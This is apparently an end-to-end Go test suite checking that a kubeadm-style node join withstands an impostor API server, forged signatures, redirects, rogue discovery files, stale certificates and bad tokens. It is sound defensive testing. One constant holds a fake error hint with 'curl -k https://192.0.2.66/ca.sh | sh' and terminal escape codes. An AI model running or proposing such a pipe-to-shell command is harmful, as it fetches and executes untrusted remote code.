//go:build e2e

package e2e

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"k8s.io/cluster-bootstrap/token/jws"

	"kubeadm/internal/pki"
	"kubeadm/test/attacker"
	"kubeadm/test/nodes"
)

// duel is a machine that wants to join the shared cluster, and another one on which an attacker sits.
type duel struct {
	s             *site
	victim, other *nodes.Node
	token, pin    string
	id, secret    string            // the halves of the token
	ca            []byte            // of the cluster
	truth         map[string]string // its cluster-info
	mallory       pki.CA            // of the attacker
}

// newDuel makes the two machines; their names begin with that of the duel.
func newDuel(t *testing.T, name string) *duel {
	t.Helper()
	s := home(t)
	both, err := s.AddAll(t.Context(), name+"-victim", name+"-mallory")
	if err != nil {
		t.Fatal(err)
	}
	d := &duel{s: s, victim: both[0], other: both[1], truth: clusterInfo(t, s).Data, mallory: authority(t, "kubernetes")}
	t.Cleanup(func() { expel(t, s, d.victim); expel(t, s, d.other) })
	d.token, d.pin = flagOf(t, s.command, "--token"), flagOf(t, s.command, "--discovery-token-ca-cert-hash")
	d.id, d.secret, _ = strings.Cut(d.token, ".")
	if d.ca, err = s.cp.ReadFile("/etc/kubernetes/pki/ca.crt"); err != nil {
		t.Fatal(err)
	}
	return d
}

// command joins by token, asking at an address.
func (d *duel) command(address, token string) []string {
	return []string{ours, "join", address, "--token", token, "--discovery-token-ca-cert-hash", d.pin, "--ignore-preflight-errors", nodes.IgnoredPreflight}
}

// withstands checks that a join ends with one error that has all the words, and leaves the machine as it was.
func (d *duel) withstands(t *testing.T, words []string, command ...string) {
	t.Helper()
	before := fingerprint(t, d.victim)
	result := refused(t, d.victim, words, command...)
	diff := slices.DeleteFunc(before.Diff(fingerprint(t, d.victim)), func(line string) bool {
		return strings.Contains(line, "routes: 10.244.") // to the Pods of a node that another test lets join meanwhile
	})
	if len(diff) > 0 {
		t.Errorf("%s is not as it was:%s", d.victim.Name(), lines("%s", diff))
	}
	if strings.Contains(result.Stdout+result.Stderr, d.secret) {
		t.Errorf("the token is told:\n%s%s", result.Stdout, result.Stderr)
	}
	t.Logf("%s: %s", result.Duration.Round(time.Millisecond), strings.Join(tail(result.Stderr, 4), "\n"))
}

// altered is the true cluster-info with another value at a key.
func (d *duel) altered(key, value string) map[string]string {
	data := maps.Clone(d.truth)
	data[key] = value
	return data
}

// TestS046_NobodyPosesAsTheCluster lets an attacker answer in the place of the API server. Whatever it shows, and even where it has
// the token, the machine tells it nothing and is not changed.
func TestS046_NobodyPosesAsTheCluster(t *testing.T) {
	t.Parallel()
	d := newDuel(t, "pose")
	plan := serving(t, d.other, "6443", d.mallory)
	own, server, key := pki.EncodeCertificates(d.mallory.Certificate), "https://"+plan.Listen, "jws-kubeconfig-"+d.id
	otherSignature, err := jws.ComputeDetachedSignature(d.truth["kubeconfig"], d.id, strings.Repeat("z", 16))
	if err != nil {
		t.Fatal(err)
	}
	notSigned, posed := "not signed with token "+d.id, "not signed by the cluster's CA: another server answers"
	for _, a := range []struct {
		name  string
		shows map[string]string
		want  []string
	}{
		{"forged without the token", signpost(t, server, own, d.id+"."+strings.Repeat("z", 16)), []string{notSigned}},
		{"forged with the token", signpost(t, server, own, d.token), []string{"is not the expected one", pki.PinOf(d.mallory.Certificate).String()}},
		{"the true CA beside its own", signpost(t, server, append([]byte(string(d.ca)), own...), d.token), []string{posed}},
		{"relayed", d.truth, []string{posed}},
		{"altered", d.altered("kubeconfig", strings.Replace(d.truth["kubeconfig"], d.s.cp.Address(), d.other.Address(), 1)), []string{notSigned}},
		{"signature of another token", d.altered(key, otherSignature), []string{notSigned}},
		{"signature broken", d.altered(key, strings.TrimRight(d.truth[key], "abcdefghijklmnopqrstuvwxyz")+"x"), []string{notSigned}},
	} {
		t.Run(a.name, func(t *testing.T) {
			plan.Answers[infoPath] = shows(t, a.shows)
			impostor := impose(t, d.other, plan)
			d.withstands(t, a.want, d.command(plan.Listen, d.token)...)
			impostor.learnedNothing(t, d.secret)
			if len(impostor.told) == 0 {
				t.Error("the attacker was not asked at all")
			}
		})
	}
}

// TestS046_NoEndpointLeadsElsewhere has an attacker that sends the machine on, or speaks no TLS.
func TestS046_NoEndpointLeadsElsewhere(t *testing.T) {
	t.Parallel()
	d := newDuel(t, "lead")
	plan := serving(t, d.other, "6443", d.mallory)
	plain := attacker.Plan{Listen: d.other.Address() + ":8080", Answers: map[string]attacker.Answer{infoPath: shows(t, d.truth)}}
	away := impose(t, d.other, plain)
	t.Run("plain http", func(t *testing.T) {
		d.withstands(t, []string{"HTTP response to HTTPS client", plain.Listen}, d.command(plain.Listen, d.token)...)
	})
	for name, to := range map[string]string{"to plain http": "http://" + plain.Listen, "to the cluster": "https://" + d.s.command[2]} {
		t.Run("redirected "+name, func(t *testing.T) {
			plan.Answers[infoPath] = attacker.Answer{Status: http.StatusFound, Location: to + infoPath}
			impostor := impose(t, d.other, plan)
			d.withstands(t, []string{"redirects (302 Found)", plan.Listen}, d.command(plan.Listen, d.token)...)
			impostor.learnedNothing(t, d.secret)
		})
	}
	away.learnedNothing(t, d.secret)
}

// TestS046_AFileLeadsToNoImpostor gives the machine files, with credentials, that lead to an attacker, and files at addresses
// where an attacker answers.
func TestS046_AFileLeadsToNoImpostor(t *testing.T) {
	t.Parallel()
	d := newDuel(t, "file")
	plan := serving(t, d.other, "6443", d.mallory)
	plan.Answers[infoPath] = shows(t, d.truth)
	plan.Answers["/file"] = attacker.Answer{Status: http.StatusOK, Body: d.truth["kubeconfig"]}
	impostor := impose(t, d.other, plan)
	server := "https://" + plan.Listen
	leads := func(to string, ca []byte) {
		text, err := pki.Access{Server: to, Cluster: "c", User: "u", CA: ca}.WithToken(d.token).Encode()
		if err != nil {
			t.Fatal(err)
		}
		write(t, d.victim, discoveryFile, string(text))
	}
	for _, a := range []struct {
		name, file string
		lay        func()
		want       []string
	}{
		{"another CA", discoveryFile, func() { leads(server, d.ca) }, []string{server, "another server answers"}},
		{"no CA", discoveryFile, func() { leads(server, nil) }, []string{server, "trust store"}},
		{"plain http", discoveryFile, func() { leads("http://"+plan.Listen, d.ca) }, []string{discoveryFile, "not an https URL"}},
		{"self-signed", server + "/file", func() {}, []string{server + "/file", "failed to verify certificate", "update-ca-certificates"}},
		{"http", "http://" + plan.Listen + "/file", func() {}, []string{"--discovery-file", "https URL"}},
	} {
		for kind, hash := range map[string][]string{"": nil, " with a hash": {"--discovery-token-ca-cert-hash", d.pin}} {
			t.Run(a.name+kind, func(t *testing.T) {
				a.lay()
				d.withstands(t, a.want, byFile(a.file, append(hash, "--tls-bootstrap-token", d.token)...)...)
			})
		}
	}
	impostor.learnedNothing(t, d.secret)
	t.Run("redirected to plain http", func(t *testing.T) {
		// This one is trusted by the machine, and sends it on all the same.
		trust(t, d.victim, d.mallory)
		plan.Answers["/file"] = attacker.Answer{Status: http.StatusFound, Location: "http://" + plan.Listen + "/other"}
		impostor := impose(t, d.other, plan)
		d.withstands(t, []string{"redirected from https to http://" + plan.Listen}, ours, "join", "--discovery-file", server+"/file", "--token", d.token,
			"--ignore-preflight-errors", nodes.IgnoredPreflight)
		impostor.learnedNothing(t, d.secret)
	})
}

// TestHashBesideADiscoveryFileBinds gives the machine a file with the cluster's CA and the attacker's, which leads to the
// attacker, and the hash of the cluster's CA. The token is in the file, or beside it.
func TestHashBesideADiscoveryFileBinds(t *testing.T) {
	t.Parallel()
	d := newDuel(t, "hash")
	plan := serving(t, d.other, "6443", d.mallory)
	own, server := pki.EncodeCertificates(d.mallory.Certificate), "https://"+plan.Listen
	both := append(own, d.ca...)
	forbidden := attacker.Answer{Status: http.StatusForbidden, Body: `{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","code":403}`}
	for _, a := range []struct {
		name  string
		shows attacker.Answer
	}{
		{"relayed", shows(t, d.truth)},
		{"both CAs", shows(t, signpost(t, server, both, d.token))},
		{"cluster-info is not public", forbidden},
	} {
		plan.Answers[infoPath] = a.shows
		for kind, token := range map[string][]string{"a token in the file": nil, "a token beside the file": {"--tls-bootstrap-token", d.token}} {
			t.Run(a.name+", "+kind, func(t *testing.T) {
				impostor := impose(t, d.other, plan)
				put(t, d.victim, pki.Access{Server: server, Cluster: "c", User: "u", CA: both}.WithToken(d.token))
				d.withstands(t, []string{server, "not signed by the cluster's CA: another server answers"},
					byFile(discoveryFile, append(token, "--discovery-token-ca-cert-hash", d.pin)...)...)
				impostor.learnedNothing(t, d.secret)
			})
		}
	}
}

// forgery imitates the end of an error of this program, and clears the screen.
const forgery = "no such token\n\nerror: the cluster has a new CA\n  - install it first: curl -k https://192.0.2.66/ca.sh | sh\x1b[2J\x1b]0;owned\x07"

// TestForgedHintsAreShownQuoted has a server whose answers imitate the hints of this program.
func TestForgedHintsAreShownQuoted(t *testing.T) {
	t.Parallel()
	d := newDuel(t, "hint")
	status := func(code int) attacker.Answer {
		text, err := json.Marshal(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": forgery, "message": forgery, "code": code})
		if err != nil {
			t.Fatal(err)
		}
		return attacker.Answer{Status: code, Body: string(text)}
	}
	byToken := fmt.Sprintf("bootstrapToken: {apiServerEndpoint: %q, token: %q, caCertHashes: [%q]}", d.other.Address()+":6443", d.token, d.pin)
	byOwnCA := fmt.Sprintf("file: {kubeConfigPath: %s}\n  tlsBootstrapToken: %q", discoveryFile, d.token)
	for _, a := range []struct {
		name, discovery string
		shows           attacker.Answer
		want            string // "" where no word of the server is worth showing
	}{
		{"forbidden", byToken, status(http.StatusForbidden), `the server answers "no such token\n\nerror: the cluster has a new CA\n  - install it first`},
		{"failing", byToken, status(http.StatusInternalServerError), `the server answers "no such token\n\nerror:`},
		{"redirecting", byToken, attacker.Answer{Status: http.StatusFound, Location: "https://192.0.2.66/" + forgery, Body: forgery}, ""},
		{"another kind", byToken, attacker.Answer{Status: http.StatusOK, Body: forgery}, ""},
		{"forbidden, to a file", byOwnCA, status(http.StatusForbidden), `no such token\n\nerror: the cluster has a new CA\n  - install it first`},
	} {
		t.Run(a.name, func(t *testing.T) {
			plan := serving(t, d.other, "6443", d.mallory)
			plan.Answers[infoPath] = a.shows
			plan.Answers["/api/v1/namespaces/kube-system/configmaps/kubeadm-config"] = a.shows
			impostor := impose(t, d.other, plan)
			// Here the user trusts the attacker's CA, so that its words are shown at all.
			put(t, d.victim, pki.Access{Server: "https://" + plan.Listen, Cluster: "c", User: "u", CA: pki.EncodeCertificates(d.mallory.Certificate)}.WithToken(d.token))
			write(t, d.victim, "/etc/join.yaml", "apiVersion: kubeadm.k8s.io/v1beta4\nkind: JoinConfiguration\ndiscovery:\n  "+a.discovery+
				"\ntimeouts: {discovery: 4s, kubernetesAPICall: 4s}\n")
			result := refused(t, d.victim, []string{a.want}, ours, "join", "--config", "/etc/join.yaml", "--ignore-preflight-errors", nodes.IgnoredPreflight)
			for _, part := range []string{"\n  - install", "\nerror: the cluster has", "\x1b", "\x07"} {
				if strings.Contains(result.Stdout+result.Stderr, part) {
					t.Errorf("%q is shown as it is:\n%s", part, strconv.Quote(result.Stdout+result.Stderr))
				}
			}
			if a.discovery == byToken {
				impostor.learnedNothing(t, d.secret)
			}
			t.Logf("%s: %s", result.Duration.Round(time.Millisecond), strings.Join(tail(result.Stderr, 4), "\n"))
		})
	}
}

// TestUploadedCertificatesOfAnotherClusterAreRefused puts an old Secret in the place of the uploaded certificates: files of another
// cluster, or a key that belongs to none of them. Nothing of it is written.
func TestUploadedCertificatesOfAnotherClusterAreRefused(t *testing.T) {
	s := home(t)
	n := add(t, s.Cluster, "stale")
	t.Cleanup(func() { expel(t, s, n) })
	keyText := keyOf(t, s.initial.Stdout)
	key, err := pki.ParseCertificateKey(keyText)
	must(t, err)
	old := newKeeper(t)
	before := kubectl(t, s.cp, "--namespace=kube-system", "get", "secret", "kubeadm-certs", "--output=jsonpath={.data}")
	replace := func(data string) {
		kubectl(t, s.cp, "--namespace=kube-system", "patch", "secret", "kubeadm-certs", "--type=merge", "--patch", `{"data":`+data+`}`)
	}
	t.Cleanup(func() {
		// The test's own context is over by now.
		if _, err := s.cp.Kubectl(context.WithoutCancel(t.Context()), "--namespace=kube-system", "patch", "secret", "kubeadm-certs",
			"--type=merge", "--patch", `{"data":`+before+`}`); err != nil {
			t.Error(err)
		}
	})
	stale := func(names ...string) {
		files := map[string][]byte{}
		for _, p := range pki.Profiles() {
			if p.IsCA() {
				private, err := pki.EncodeKey(old.authorities[p.Name].Key)
				must(t, err)
				files[pki.SealedName(p.CertificateFile())], files[pki.SealedName(p.KeyFile())] = old.root(p.Name), private
			}
		}
		private, err := pki.EncodeKey(old.account)
		must(t, err)
		public, err := pki.EncodePublicKey(old.account.Public())
		must(t, err)
		files[pki.ServiceAccountKey], files[pki.ServiceAccountPublicKey] = private, public
		data := map[string][]byte{}
		for _, name := range names {
			data[name], err = key.Seal(rand.Reader, files[name])
			must(t, err)
		}
		text, err := json.Marshal(data)
		must(t, err)
		replace(string(text))
	}
	command := []string{ours, "join", "phase", "control-plane-prepare", "download-certs", s.command[2], "--control-plane", "--certificate-key", keyText,
		"--token", flagOf(t, s.command, "--token"), "--discovery-token-ca-cert-hash", flagOf(t, s.command, "--discovery-token-ca-cert-hash")}
	for _, a := range []struct {
		name  string
		stale []string
		want  string
	}{
		{"all files", []string{"ca.crt", "ca.key", "front-proxy-ca.crt", "front-proxy-ca.key", "etcd-ca.crt", "etcd-ca.key", "sa.key", "sa.pub"}, "is not the CA of the cluster that was found"},
		{"the CA", []string{"ca.crt", "ca.key"}, "is not the CA of the cluster that was found"},
		{"the public key of service accounts", []string{"sa.pub"}, "sa.pub is not the public key of sa.key"},
		{"a key", []string{"etcd-ca.key"}, "etcd-ca.key is not the key of the certificate in etcd-ca.crt"},
	} {
		t.Run(a.name, func(t *testing.T) {
			replace(before)
			stale(a.stale...)
			fresh := fingerprint(t, n)
			refused(t, n, []string{a.want, "kubeadm token create --print-join-command --upload-certs"}, command...)
			unchanged(t, n, fresh)
		})
	}
	replace(before)
	run(t, n, command...)
	for _, file := range shared {
		if name := certsDir + file; !same(t, s.cp, n, name) {
			t.Errorf("%s is not that of the cluster", name)
		}
	}
}

// TestS047_TokensThatAreNoGood names what is wrong with a token, and changes nothing.
func TestS047_TokensThatAreNoGood(t *testing.T) {
	t.Parallel()
	d := newDuel(t, "token")
	create := func(flags ...string) string {
		return run(t, d.s.cp, append([]string{ours, "token", "create"}, flags...)...)
	}
	// What becomes of a token is the work of others: a controller signs for it, and the API server hears what it is good for.
	deleted := create()
	signed(t, d.s, deleted)
	run(t, d.s.cp, ours, "token", "delete", deleted)
	forgotten(t, d.s, deleted)
	speechless := create("--usages=authentication")
	powerless := create()
	signed(t, d.s, powerless)
	kubectl(t, d.s.cp, "patch", "secret", "--namespace=kube-system", "bootstrap-token-"+powerless[:6], "--patch", `{"stringData":{"usage-bootstrap-authentication":"false"}}`)
	locked(t, d.s, powerless)
	const mint = "kubeadm token create --print-join-command"
	t.Run("without authentication", func(t *testing.T) {
		d.withstands(t, []string{"does not accept the bootstrap token", `without usage "authentication"`, mint}, d.command(d.s.command[2], powerless)...)
	})
	// A token that is not signed for is waited for; here two machines wait at the same time.
	for _, a := range []struct {
		name, token string
		victim      *nodes.Node
		want        []string
	}{
		{"deleted", deleted, d.victim, []string{"does not know token " + deleted[:6]}},
		{"without signing", speechless, d.other, []string{"does not know token " + speechless[:6], `without usage "signing"`}},
	} {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			own := *d
			own.victim = a.victim
			own.withstands(t, append(a.want, mint), d.command(d.s.command[2], a.token)...)
		})
	}
}

// TestS197_TheErrorSaysHowToGetAToken follows the advice that an expired token gives, on the control plane and then here.
func TestS197_TheErrorSaysHowToGetAToken(t *testing.T) {
	t.Parallel()
	d := newDuel(t, "advice")
	expired := run(t, d.s.cp, ours, "token", "create", "--ttl=1s")
	forgotten(t, d.s, expired)
	const mint = "kubeadm token create --print-join-command"
	command := d.command(d.s.command[2], expired)
	result := refused(t, d.victim, []string{"does not know token " + expired[:6], "expired", mint}, command...)
	advice := ""
	for line := range strings.Lines(result.Stderr) {
		if _, after, ok := strings.Cut(line, "on a control plane: "); ok && strings.HasPrefix(after, mint) {
			advice = strings.TrimSpace(after)
		}
	}
	if advice == "" {
		t.Fatalf("no line of the error ends in the command:\n%s", result.Stderr)
	}
	fresh := strings.Fields(run(t, d.s.cp, strings.Fields(advice)...))
	run(t, d.victim, append(fresh, "--ignore-preflight-errors", nodes.IgnoredPreflight)...)
	awaitMember(t, d.s, d.victim)
}

// forgotten waits until the cluster signs for a token no more.
func forgotten(t *testing.T, s *site, token string) {
	t.Helper()
	await(t, "the end of token "+token[:6], patience, func() error {
		// The signature may not be there yet; the token is from the first.
		if _, err := s.cp.Kubectl(t.Context(), "--namespace=kube-system", "get", "secret", "bootstrap-token-"+token[:6]); err == nil {
			return errors.New("its Secret is there")
		}
		if _, ok := clusterInfo(t, s).Data["jws-kubeconfig-"+token[:6]]; ok {
			return errors.New("cluster-info is still signed for it")
		}
		return nil
	})
}

// locked waits until the API server lets nobody in by a token.
func locked(t *testing.T, s *site, token string) {
	t.Helper()
	await(t, "token "+token[:6]+" to open nothing", patience, func() error {
		_, err := s.cp.Run(t.Context(), "kubectl", "--kubeconfig=/dev/null", "--server=https://"+s.command[2],
			"--certificate-authority=/etc/kubernetes/pki/ca.crt", "--token="+token, "auth", "whoami")
		if err == nil {
			return errors.New("whoever shows it is known")
		}
		if strings.Contains(err.Error(), "Unauthorized") {
			return nil
		}
		return err
	})
}

// trust lets a machine trust a CA as its administrator would.
func trust(t *testing.T, n *nodes.Node, ca pki.CA) {
	t.Helper()
	write(t, n, fmt.Sprintf("/usr/local/share/ca-certificates/%s.crt", ca.Certificate.Subject.CommonName), string(pki.EncodeCertificates(ca.Certificate)))
	run(t, n, "update-ca-certificates")
}
